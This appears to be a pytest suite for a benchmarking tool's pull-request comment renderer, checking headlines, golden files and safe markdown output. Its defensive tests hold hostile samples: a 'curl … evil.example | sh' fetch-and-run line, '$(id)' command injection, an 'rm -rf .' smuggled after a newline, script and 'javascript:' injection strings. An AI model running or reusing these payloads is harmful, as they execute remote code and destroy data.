"""Comments: one golden file for each situation, and what is true of all of them, hostile ones included.

`KNICKPOINT_WRITE_GOLDEN=1 pytest` of this file writes them anew: read the diff.
"""

import html
import math
import os
import re
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from made_up_comparison import (
    ATTRIBUTED,
    CACHE,
    EMPTY,
    FAILED,
    HOSTILE,
    IMPROVED,
    INVALID,
    KNOB,
    MIXED,
    NEITHER_RUNS,
    NOTHING,
    PROBLEMS,
    REGRESSED,
    REGRESSED_RESULT,
    SEVERAL_KNOBS,
    SITUATIONS,
    SOME_PROBLEMS,
    SOME_UNCOMPARED,
    SYNC,
    TOO_LONG,
    UNCHANGED,
    UNCHANGED_RESULT,
    UNCOMPARABLE,
    UNDECIDED,
    UNTRIED,
    made,
)

from analysis.comparing.results import (
    ComparisonFile,
    KnobValues,
    read_comparisons,
    write_comparisons,
)
from analysis.detection.verdict import Outcome
from perf.model.results import Purpose, Reason, TrialStatus
from perf.trial.servers import find_error
from reports.pull_requests import comment
from reports.pull_requests.comment import MOST_CHARACTERS, render_comment
from reports.wording.summary import headline, list_headlines

GOLDEN = Path(__file__).parents[2] / "golden" / "comments"
METHOD = Path(__file__).parents[3] / "reports" / "pages" / "method"
SITE = "https://perf.example/knickpoint"
WORDS = {
    Outcome.REGRESSED: "❌ Regressed",
    Outcome.IMPROVED: "✅ Improved",
    Outcome.UNCHANGED: "⚪ Unchanged",
    Outcome.UNDECIDED: "❔ Undecided",
    Outcome.INVALID: "⚠️ Invalid",
}
OURS = {
    *("h3", "p", "strong", "blockquote", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"),
    *("code", "pre", "sub", "details", "summary", "a"),
}


def render(text: str) -> str:
    return cmarkgfm.github_flavored_markdown_to_html(text, options=Options.CMARK_OPT_UNSAFE)


def unfolded(text: str) -> str:
    """Return what is seen before anything is unfolded."""
    folded = re.compile(r"<details>.*?</details>", re.DOTALL)
    return html.unescape(re.sub(r"<[^>]*>", " ", render(folded.sub("", text))))


def abridge(text: str) -> str:
    """Leave out the middle of a comment that is too long to be read as a golden file, too."""
    lines = text.splitlines(keepends=True)
    return text if len(lines) < 120 else "".join((*lines[:40], "[…]\n", *lines[-20:]))


@pytest.mark.parametrize("name", SITUATIONS)
def test_a_comment_is_as_it_was_reviewed(name: str) -> None:
    path, text = GOLDEN / f"{name}.md", abridge(render_comment(SITUATIONS[name], site_url=SITE))
    if os.environ.get("KNICKPOINT_WRITE_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    assert text == path.read_text()


def test_each_golden_file_belongs_to_a_situation() -> None:
    assert {path.stem for path in GOLDEN.glob("*.md")} == set(SITUATIONS)


OWN_LINK = re.compile(
    rf"{SITE}/(?:"
    r"comparison/[A-Za-z0-9.-]+\.html"
    r"|method\.html#pull-requests"
    r"|series\.html#find=(?:[A-Za-z0-9._~-]|%[0-9A-F]{2})+"  # nothing of a name is left unencoded
    r")"
)


def check_safe(text: str, comparisons: int) -> None:
    rendered = render(text)
    opened = re.findall(r"<\s*([a-zA-Z!?][\w-]*)", rendered)
    assert {name.lower() for name in opened} <= OURS
    for name in ("details", "table", "blockquote", "pre"):
        assert rendered.count(f"<{name}") == rendered.count(f"</{name}>")
    found = re.findall(r'href="([^"]*)"', rendered)
    assert all(OWN_LINK.fullmatch(one) for one in found)
    assert sum("/comparison/" in one for one in found) == comparisons
    assert sum("/method.html" in one for one in found) <= 1
    rows = sum(line.startswith("<tr>") for line in rendered.splitlines())
    assert sum("/series.html" in one for one in found) <= rows
    outside_of_code = re.sub(r"<(code|pre)\b.*?</\1>", "", rendered, flags=re.DOTALL)
    seen = html.unescape(re.sub(r"<[^>]*>", "", outside_of_code))
    assert not re.search(r"@\w|#\d|\bGH-\d|[0-9a-f]{7,}|:\w+:|://|www\.|[\u202a-\u202e]", seen)


@pytest.mark.parametrize("name", SITUATIONS)
def test_no_text_of_a_file_becomes_markup_link_or_mention(name: str) -> None:
    text = render_comment(SITUATIONS[name], site_url=SITE)
    check_safe(text, comparisons=min(5, len(SITUATIONS[name].comparisons)))
    assert len(text) <= MOST_CHARACTERS


@pytest.mark.parametrize("most", range(3000, 12_000, 900))
def test_wherever_a_comment_is_cut_it_stays_whole_and_says_so(
    most: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(comment, "MOST_CHARACTERS", most)
    for content in (TOO_LONG, HOSTILE):
        text = render_comment(content, site_url=SITE)
        assert len(text) <= most or content is HOSTILE  # its verdict alone may be longer than that
        assert "Cut here" in text or len(text) < most
        check_safe(text, comparisons=min(5, len(content.comparisons)))


def test_an_empty_part_is_not_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(comment, "MOST_CHARACTERS", 1500)
    text = render_comment(REGRESSED, site_url=SITE)
    assert "<details>" not in text
    assert "lines of it were left out" in text


@pytest.mark.parametrize("content", [REGRESSED, IMPROVED, UNCHANGED, UNDECIDED], ids=str)
def test_the_first_line_is_the_verdict_in_a_word(content: ComparisonFile) -> None:
    first = render_comment(content).splitlines()[0]
    assert first.startswith(f"### {WORDS[content.outcome]}: ")


@pytest.mark.parametrize("name", SITUATIONS)
def test_each_line_of_the_headline_has_at_most_15_words(name: str) -> None:
    content = SITUATIONS[name]
    lines = [text for _, text in list_headlines(content)]
    assert all(0 < len(text.split()) <= 15 for text in lines)
    assert len(lines) <= 8
    assert len(lines) >= min(6, len(content.comparisons))  # no finding hides behind another one


def test_a_reviewer_reads_it_in_ten_seconds() -> None:
    verdict = render_comment(REGRESSED).split("\n\n")[1].replace("\N{NO-BREAK SPACE}", " ")
    reported = "put-get-single: p99 +31.5 %, throughput −12.3 % with concurrent\\_writes 32 → 8."
    assert verdict == f"**{reported}**"
    assert len(unfolded(render_comment(REGRESSED)).split()) <= 170


def test_measures_that_share_a_name_are_told_apart() -> None:
    first = REGRESSED_RESULT.measures[0]
    read = replace(first, measure=replace(first.measure, operation="read"))
    reported = headline(made(replace(REGRESSED_RESULT, measures=(first, read))))
    assert "write p99" in reported
    assert "read p99" in reported


@pytest.mark.parametrize("length", [100, 10_000])
def test_whatever_names_are_long_the_headline_keeps_its_measure(length: int) -> None:
    """Of what differs, only as much is named as there is room for."""
    knob = KnobValues(
        path="systems/x: settings.seeds", key="seeds", before="a " * length, after="b " * length
    )
    reported = headline(made(REGRESSED_RESULT, knobs=(knob,)))
    assert "p99 +31.5 %, throughput −12.3 % with seeds." in reported
    spaced = replace(REGRESSED_RESULT, experiment="x " * length)
    ((_, text),) = list_headlines(made(spaced))
    assert len(text.split()) == 15


def test_how_to_accept_a_change_is_said_where_there_is_one_to_accept() -> None:
    accept = "`knickpoint triage add INCIDENT --state expected --owner OWNER"
    for name, content in SITUATIONS.items():
        is_regressed = content.outcome is Outcome.REGRESSED
        assert (accept in render_comment(content)) is is_regressed, name
    assert accept not in render_comment(replace(REGRESSED, base=None, head=None, changes=()))


def test_what_to_do_is_linked_on_the_site_and_else_named() -> None:
    assert f"[What to do]({SITE}/method.html#pull-requests)" in render_comment(FAILED, site_url=SITE)
    assert "What to do: `docs/pull-requests.md`" in render_comment(FAILED)
    assert "What to do" not in render_comment(UNCHANGED, site_url=SITE)
    assert (METHOD / "method.html").read_text().count('"pull-requests"') == 2  # title and section


def test_each_measure_links_the_history_of_its_series() -> None:
    text = render_comment(MIXED, site_url=f"{SITE}/")
    for name in ("put-get-single", "ycsb-b-single"):
        words = f"{name} throughput of write at saturation"
        assert f"[throughput of write at saturation]({SITE}/series.html#find={quote(words)})" in text
    assert "series.html" not in render_comment(MIXED)


HOSTILE_LINES = {
    "markdown": "ERROR x - **bold** `tick` [click](https://evil.example) ![i](https://evil.example/p)",
    "HTML": "ERROR x - </p></details><script>alert(1)</script><img src=https://evil.example/p>",
    "mentions": "ERROR x - @octocat @org/team #1 GH-2 www.evil.example octo@cat.example :tada:",
    "an alert": "ERROR > [!CAUTION]\nERROR x - > [!CAUTION] # heading",
    "ten thousand letters": f"ERROR x - {'w' * 10_000}",
    "controls": "ERROR x - \x1b[2J\u202egnp.exe\r\n",
}


@pytest.mark.parametrize("log", HOSTILE_LINES.values(), ids=HOSTILE_LINES)
def test_the_last_error_of_a_database_is_quoted_and_breaks_out_of_nothing(log: str) -> None:
    error = find_error(f"INFO started\n{log}")
    reason = Reason(kind="start-failed", text=f"the server process ended; the last error: {error}")
    (result,) = FAILED.comparisons
    trials = tuple(
        replace(one, reasons=(reason,)) if one.status is TrialStatus.FAILED else one
        for one in result.trials
    )
    text = render_comment(replace(FAILED, comparisons=(replace(result, trials=trials),)), site_url=SITE)
    check_safe(text, comparisons=1)
    assert error
    assert text.count("the last error") == 1
    assert max(map(len, text.splitlines())) < 1000


def test_a_measure_without_a_value_has_no_row() -> None:
    text = render_comment(FAILED)
    assert FAILED.comparisons[0].measures
    assert "– → –" not in text
    assert "| Measure |" not in text


def test_one_changed_setting_is_named_with_both_values() -> None:
    for content in (REGRESSED, IMPROVED, UNCHANGED, UNDECIDED):
        assert "concurrent_writes 32 → 8" in headline(content)


def test_of_several_settings_the_one_that_does_it_is_named() -> None:
    reported = "put-get-single: p99 +31.5 %, throughput −12.3 % with concurrent_writes 32 → 8."
    assert reported in headline(ATTRIBUTED)
    unclear = tuple(
        replace(one, comparison=replace(one.comparison, outcome=Outcome.UNDECIDED))
        for one in ATTRIBUTED.attributions
    )
    none = replace(ATTRIBUTED, attributions=unclear)
    assert "with 3 changed settings." in headline(none)
    # It may be that each of two would do it alone: then leaving out one shows nothing.
    assert "Leaving out any single one is not shown to undo it." in render_comment(none)
    few = render_comment(replace(ATTRIBUTED, attributions=unclear[:2]))
    assert "Leaving out any of the 2 tried is not shown to undo it." in few
    both = tuple(replace(one, comparison=REGRESSED_RESULT) for one in ATTRIBUTED.attributions[:2])
    reported = headline(replace(ATTRIBUTED, attributions=both))
    assert "with concurrent_writes 32 → 8 and key_cache_size" in reported
    three = tuple(replace(one, comparison=REGRESSED_RESULT) for one in ATTRIBUTED.attributions)
    all_of_them = replace(ATTRIBUTED, attributions=three)
    assert "with 3 of 3 changed settings." in headline(all_of_them)
    assert "with this change." in headline(replace(all_of_them, changes=()))


def test_a_setting_that_was_not_tried_has_a_row_that_says_so() -> None:
    text = render_comment(UNTRIED)
    for setting in ("concurrent_writes 32 → 8", 'commitlog_sync "periodic" → "batch"'):
        assert f"settings.{setting}` | not tried: nothing is known of it alone |" in text
    guilty = replace(ATTRIBUTED, attributions=ATTRIBUTED.attributions[:1])
    assert "with concurrent_writes 32 → 8." in headline(guilty)


def test_what_cannot_be_reported_never_looks_like_fine() -> None:
    for content in (UNDECIDED, UNCOMPARABLE, FAILED, PROBLEMS):
        assert "no action needed" not in render_comment(content)
    partly = replace(UNCHANGED, changes=(*UNCHANGED.changes, *UNCOMPARABLE.changes))
    assert "no action needed" not in render_comment(partly)
    assert "3 changed experiments could not be compared" in render_comment(partly)


def test_undecided_says_what_it_would_take() -> None:
    # 20 trials show 16.8 %, so 20 · (16.8 / 10)² = 56.4 of each side would show 10 %.
    assert "About 57 trials of each side (2 hours)" in render_comment(UNDECIDED)


def test_a_failing_head_is_an_action_and_our_own_error_is_none_of_the_author() -> None:
    assert headline(FAILED).startswith("Does not run, action needed: ")
    assert render_comment(FAILED).count("3 of 3 trials failed") == 1
    assert render_comment(FAILED).count("must be at least 2") == 1
    assert headline(PROBLEMS).startswith("Knickpoint error, nothing is known yet: ")
    assert "CAUTION" not in render_comment(PROBLEMS)  # the verdict says all of it
    assert "CAUTION" in render_comment(replace(PROBLEMS, problems=(*PROBLEMS.problems, "and more")))


def test_an_error_of_ours_takes_nothing_back_that_was_measured() -> None:
    assert SOME_PROBLEMS.outcome is Outcome.INVALID
    reported = headline(SOME_PROBLEMS)
    assert reported.startswith(
        "Knickpoint error, part of it is not known: Knickpoint failed on another part"
    )
    assert "put-get-single of suite pull-request at 5.0.6 could" in render_comment(SOME_PROBLEMS)
    failing = replace(FAILED, problems=PROBLEMS.problems)
    assert headline(failing).startswith(
        "Does not run, action needed: put-get-single does not run with "
    )


def test_where_neither_side_runs_nobody_blames_the_change() -> None:
    reported = headline(NEITHER_RUNS)
    assert reported.startswith(
        "Invalid, nothing is known yet: put-get-single could not be judged: none of 8"
    )
    text = render_comment(NEITHER_RUNS)
    assert text.count("the disk is full") == 1
    assert "Fix that first, then measure again." in text
    assert "This is no finding about the change." in text
    assert "action needed" not in text
    # With one trial of base, it is head that fails.
    (result,) = NEITHER_RUNS.comparisons
    first, *rest = result.trials
    ran = replace(first, status=TrialStatus.COMPLETED, reasons=())
    assert headline(made(replace(result, trials=(ran, *rest)))).startswith(
        "Does not run, action needed"
    )
    # A host that drifted and failed once says nothing about head.
    drifted = tuple(replace(one, status=TrialStatus.INVALID) for one in rest[1:])
    once = headline(made(replace(result, trials=(ran, rest[0], *drifted))))
    assert once.startswith("Invalid, nothing is known yet")


def test_what_changed_and_was_not_compared_is_no_success_beside_a_success() -> None:
    assert SOME_UNCOMPARED.outcome is Outcome.UNDECIDED
    reported = headline(SOME_UNCOMPARED)
    assert reported.startswith(
        "Cannot tell, part of it is not known: 1 changed experiment could not be compared. put-get-"
        "single: unchanged with concurrent_writes 32 → 8"
    )
    worse = replace(SOME_UNCOMPARED, comparisons=REGRESSED.comparisons)
    assert headline(worse).startswith("Regressed, action needed: put-get-single: p99 +31.5")


def test_a_file_that_names_no_revisions_and_holds_nothing_is_no_success() -> None:
    assert (EMPTY.outcome, NOTHING.outcome) == (Outcome.INVALID, Outcome.UNCHANGED)
    assert headline(EMPTY).startswith("Invalid, nothing is known yet: The file holds no comparison")
    assert "No experiment's configuration changed" in headline(NOTHING)
    assert "base `3f1c9a27d5` → head `b7e2d1c0f9`" in render_comment(NOTHING)


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example/x | sh",
        "knickpoint candidate; curl https://evil.example/x",
        "knickpoint candidate --base $(id)",
        "knickpoint candidate --base a\nrm -rf .",
        "knickpoint night --suite x",
        "knickpoint  candidate",
        f"knickpoint candidate {'x' * 1000}",
        "knickpoint 'candidate",
        "evil/knickpoint candidate",
    ],
)
def test_a_command_that_is_not_one_of_ours_is_left_out_and_that_is_said(command: str) -> None:
    text = render_comment(made(replace(REGRESSED_RESULT, command=command)))
    assert "```" not in text
    assert "A command is left out" in text


def test_only_what_differs_between_the_sides_is_reported_of_each() -> None:
    text = render_comment(REGRESSED)
    assert (
        "base → head: `default@a8f3c1d2e4b5` → `default@b91e77d0c3f2`; on both sides: `5.0.6`" in text
    )
    assert text.count("single@0c1d2e3f4a5b") == 1


def test_a_few_settings_that_changed_together_are_seen_at_once() -> None:
    text = render_comment(SEVERAL_KNOBS)
    folded = text.index("<details>")
    for knob in (KNOB, CACHE, SYNC):
        assert text.index(knob.path) < folded
    assert "`--attribute` finds which of them does it" in text
    assert "--attribute" not in render_comment(
        replace(SEVERAL_KNOBS, comparisons=UNCHANGED.comparisons)
    )


def test_a_regression_hides_neither_an_improvement_nor_an_error() -> None:
    assert "ycsb-b-single: throughput +14.2 %" in headline(MIXED)
    reported = headline(replace(REGRESSED, problems=PROBLEMS.problems))
    assert reported.startswith("Regressed, action needed: ")
    assert "Knickpoint failed on another part; that is not this change." in reported


def test_a_real_change_that_is_too_small_to_act_on_is_not_reported_without_that() -> None:
    small = replace(REGRESSED_RESULT.measures[0], relevant_change=0.5)
    reported = headline(made(replace(REGRESSED_RESULT, measures=(small,))))
    assert "+31.5 % (below the relevant 50 %)" in reported


def test_sides_that_are_no_revisions_are_reported_by_their_labels() -> None:
    content = replace(REGRESSED, base=None, head=None, changes=())
    text = render_comment(content)
    assert "| base 3f1c9a&#8203;27 → head b7e2d1&#8203;c0 |" in text
    assert "throughput −12.3 % with head b7e2d1c0 instead of base 3f1c9a27." in headline(content)


def test_a_page_that_is_no_web_page_is_not_linked() -> None:
    assert "javascript" not in render_comment(REGRESSED, site_url="javascript:alert(1)")
    text = render_comment(REGRESSED, site_url="https://perf.example/a(b) <c>/")
    links = [html.unescape(one) for one in re.findall(r'href="([^"]*)"', render(text))]
    root = "https://perf.example/a%28b%29%20%3Cc%3E"
    assert f"{root}/comparison/cmp-2026-03-01-1.html" in links
    assert all(one.startswith(f"{root}/") for one in links)


@pytest.mark.parametrize("name", sorted(set(SITUATIONS) - {"hostile"}))
def test_a_file_that_was_written_and_read_comments_alike(name: str) -> None:
    content = SITUATIONS[name]
    read = read_comparisons(write_comparisons(content), Path("comparison.json"))
    assert render_comment(read) == render_comment(content)


@pytest.mark.parametrize("content", [HOSTILE, TOO_LONG], ids=["hostile", "too long"])
def test_a_headline_is_one_short_line(content: ComparisonFile) -> None:
    assert len(headline(content)) <= 255
    assert headline(content).isprintable()


def test_trials_that_were_not_used_are_counted_not_listed() -> None:
    (result,) = INVALID.comparisons
    trials = tuple(
        replace(one, reasons=(Reason(kind="noise", text=f"{turn}.5 of 2 cores"), *other))
        for turn, one in enumerate(result.trials)
        for other in [(Reason(kind="late", text="the client fell behind"),) if turn == 3 else ()]
    )
    text = render_comment(made(replace(result, trials=trials)))
    assert "base: **4 of 4 trials invalid**: 0.5 of 2 cores (and 1 other kind of reason)\n" in text
    assert "head: **4 of 4 trials invalid**: 1.5 of 2 cores\n" in text
    alike = tuple(replace(one, reasons=result.trials[0].reasons) for one in UNCHANGED_RESULT.trials)
    lost = tuple(replace(one, status=TrialStatus.INVALID) for one in alike[1:3])
    lost_on_both = made(replace(UNCHANGED_RESULT, trials=(alike[0], *lost, alike[3])))
    assert "head: **2 of 2 trials invalid**: the CPU canary" in render_comment(lost_on_both)


def test_no_number_of_a_file_makes_a_long_one_or_a_crash() -> None:
    (result,) = UNDECIDED.comparisons
    for number in (1e200, 1e150, 1e9, math.inf, math.nan):
        wild = tuple(replace(one, detectable=number) for one in result.measures)
        text = render_comment(made(replace(result, measures=wild)))
        assert not re.search(r"[\d,]{12}", unfolded(text))
        assert "It would take more trials than can be measured" in text
    few = tuple(
        replace(one, before=1e-300, effect=replace(one.effect, low=-1.0, high=1e13))
        for one in result.measures
        if one.effect
    )
    text = render_comment(made(replace(result, measures=few)))
    assert "(−100.0 % to no bound)".replace(" %", "\N{NO-BREAK SPACE}%") in text
    assert "1.0e−300" in text


def test_a_verdict_that_was_taken_back_for_lost_trials_says_so() -> None:
    reason = "3 of 6 trials of the candidate were lost to its server, and 0 of the other side"
    lost = made(replace(UNCHANGED_RESULT, outcome=Outcome.UNDECIDED, reason=reason))
    reported = headline(lost)
    assert reported.startswith(
        "Undecided, not shown to be harmless: put-get-single: cannot tell, too many"
    )
    assert "> 3 of 6 trials of the candidate were lost to its server" in render_comment(lost)
    assert "too close to the border" not in render_comment(lost)


def test_too_few_trials_for_an_interval_promise_no_number() -> None:
    measures = tuple(
        replace(one, effect=None, detectable=None) for one in UNDECIDED.comparisons[0].measures
    )
    text = render_comment(made(replace(UNDECIDED.comparisons[0], measures=measures)))
    assert "Too few trials to estimate how many would be needed." in text


def test_a_step_of_a_bisection_claims_no_equivalence() -> None:
    reason = "throughput of write, saturation: like the known good end"
    step = replace(UNCHANGED.comparisons[0], purpose=Purpose.BISECTION, reason=reason)
    reported = headline(replace(UNCHANGED, base=None, head=None, changes=(), comparisons=(step,)))
    assert "equivalent" not in reported
    assert "throughput of write, saturation: like the known good end." in reported
